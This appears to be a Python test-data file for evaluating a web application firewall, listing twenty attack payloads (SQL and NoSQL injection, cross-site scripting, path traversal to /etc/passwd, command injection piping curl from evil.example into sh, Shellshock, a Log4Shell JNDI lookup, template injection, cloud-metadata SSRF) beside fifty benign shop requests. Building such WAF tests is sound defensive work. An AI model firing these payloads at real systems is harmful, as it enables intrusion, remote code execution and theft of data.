"""What is sent to the WAF: 20 payloads of attacks, and 50 requests of ordinary users.

The application has no flaw, so a payload shows what the WAF does, and harms nothing. The ordinary requests
hold what is typed into a shop: names, prices, questions, code in a support request.
"""

from dataclasses import dataclass
from urllib.parse import quote

SEARCH = "/rest/products/search?q="
JSON = ("-H", "Content-Type: application/json", "-d")


@dataclass(frozen=True)
class Request:
    """One request: its name, its kind, its path, and more options of curl."""

    name: str
    kind: str
    path: str
    words: tuple[str, ...] = ()


def _search(name: str, kind: str, text: str) -> Request:
    """Return a search in the shop for a text."""
    return Request(name, kind, SEARCH + quote(text))


def _feedback(name: str, kind: str, body: str) -> Request:
    """Return a message to the shop, as JSON."""
    return Request(name, kind, "/api/Feedbacks", (*JSON, body))


PAYLOADS = (
    Request("sheet", "SQL injection", "/rest/products/search?q='%20OR%201=1--"),
    _search("union", "SQL injection", "')) UNION SELECT id,email,password FROM Users--"),
    _search("stacked", "SQL injection", "1; DROP TABLE Users"),
    _search("time", "SQL injection", "1' AND SLEEP(5)#"),
    _feedback("login-bypass", "SQL injection", "{\"comment\":\"admin' OR '1'='1' --\"}"),
    _feedback("nosql", "NoSQL injection", '{"id":{"$ne":-1},"comment":{"$where":"sleep(2000)"}}'),
    _search("script", "cross-site scripting", "<script>alert(1)</script>"),
    _search("handler", "cross-site scripting", '<img src=x onerror="alert(1)">'),
    _search("iframe", "cross-site scripting", "<iframe src=\"javascript:alert('xss')\">"),
    _feedback("stored", "cross-site scripting", '{"comment":"<svg/onload=fetch(\'//evil.example\')>"}'),
    _search("traversal", "path traversal", "../../../../etc/passwd"),
    Request("encoded-dots", "path traversal", "/ftp/..%2f..%2f..%2fetc%2fpasswd"),
    Request("hidden-file", "path traversal", "/.git/config"),
    _search("command", "command injection", "; cat /etc/passwd"),
    _search("substitution", "command injection", "$(curl evil.example|sh)"),
    Request("shellshock", "command injection", "/", ("-A", "() { :;}; /bin/bash -c 'id'")),
    Request("log4shell", "code injection", "/", ("-H", "X-Api-Version: ${jndi:ldap://evil.example/a}")),
    _search("template", "template injection", "{{7*7}}"),
    Request(
        "metadata", "server-side request forgery", "/profile?url=http://169.254.169.254/latest/meta-data/"
    ),
    Request("scanner", "scanner", "/", ("-A", "sqlmap/1.7#stable (https://sqlmap.org)")),
)

_TERMS = (
    "apple juice",
    "O'Brien's cider",
    "juice & more",
    "50% off",
    "orange (fresh)",
    "smoothie < 5 EUR",
    "price > 2",
    "select a juice",
    "union of flavours",
    "drop shipping",
    "fruit; vegetables",
    "C++ mug",
    "100% juice -- no sugar",
    "size=XL",
    "1=1 offer",
    "café crème",
    "сок",
    "果汁",
    "2 for 1 or 3 for 2",
    "and/or",
    "#1 bestseller",
    "script for a play",
    "table cloth",
    "insert for juicer",
    "user's guide",
)
_PAGES = (
    "/",
    "/main.js",
    "/assets/public/images/products/apple_juice.jpg",
    "/api/Products/1",
    "/rest/admin/application-version",
    "/#/search?q=apple",
    "/redirect?to=https://github.com/juice-shop/juice-shop",
    "/profile?tab=orders&page=2&sort=-date",
    "/api/Products/1?d=Sun%20Nov%2029%202026",
    "/rest/products/search?q=",
)
_MESSAGES = (
    "Great juice, thank you!",
    "It's the best shop I've found; I'll be back.",
    "My order #1234-5678 hasn't arrived. Where is it?",
    "Please select a gift for my wife & update my address.",
    "The page says: <b>out of stock</b>",
    "SELECT * FROM Products doesn't work in your API example.",
    "Run `curl -s https://shop.example/api` and see: it fails.",
    "Use /etc/hosts to reach the test shop, says your guide.",
    "I pay 10 EUR OR 12 USD -- which one is it?",
    "Ёлки! Сок отличный.",
)
_OTHERS = (
    Request(
        "browser",
        "header",
        "/",
        ("-A", "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"),
    ),
    Request("language", "header", "/", ("-H", "Accept-Language: de-CH,de;q=0.9,en;q=0.8")),
    Request("referer", "header", "/", ("-H", "Referer: https://localhost/search?q=juice%20or%20cider")),
    Request("cookie", "header", "/", ("-H", "Cookie: language=en; welcomebanner_status=dismiss")),
    Request("form", "form", "/api/Feedbacks", ("-d", "comment=Good+juice+%26+fast&rating=5")),
)

ORDINARY = (
    *(_search(f"search-{number:02}", "search", text) for number, text in enumerate(_TERMS, 1)),
    *(Request(f"page-{number:02}", "page", path) for number, path in enumerate(_PAGES, 1)),
    *(
        _feedback(f"message-{number:02}", "message", f'{{"comment":"{text}","rating":5}}')
        for number, text in enumerate(_MESSAGES, 1)
    ),
    *_OTHERS,
)
